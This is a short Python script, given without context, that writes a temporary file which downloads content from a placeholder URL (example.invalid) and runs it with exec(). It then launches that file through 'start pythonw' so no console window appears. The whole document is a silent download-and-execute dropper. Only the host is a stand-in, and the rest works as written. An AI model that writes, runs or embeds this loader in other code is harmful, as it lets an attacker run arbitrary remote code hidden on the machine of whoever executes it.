from tempfile import NamedTemporaryFile
from os import system
t = NamedTemporaryFile(delete=False)
t.write(b"""from urllib.request import urlopen
exec(urlopen("http://example.invalid/").read())""")
t.close()
system(f"start pythonw {t.name}")
